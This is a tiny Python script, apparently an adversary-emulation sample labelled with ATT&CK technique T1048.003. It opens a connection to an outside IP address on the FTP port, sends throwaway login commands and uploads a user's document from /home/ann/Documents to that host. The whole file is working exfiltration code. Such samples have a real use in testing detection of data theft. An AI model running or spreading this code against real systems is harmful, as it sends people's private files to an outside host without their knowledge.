#!/usr/bin/env python3
# title: Python sends a file by FTP
# technique: T1048.003
# needs: python3

import socket
s = socket.create_connection(("192.88.99.7", 21)); s.recv(100)
s.sendall(b"USER x\r\nPASS x\r\nSTOR d\r\n" + open("/home/ann/Documents/report-1.docx", "rb").read())
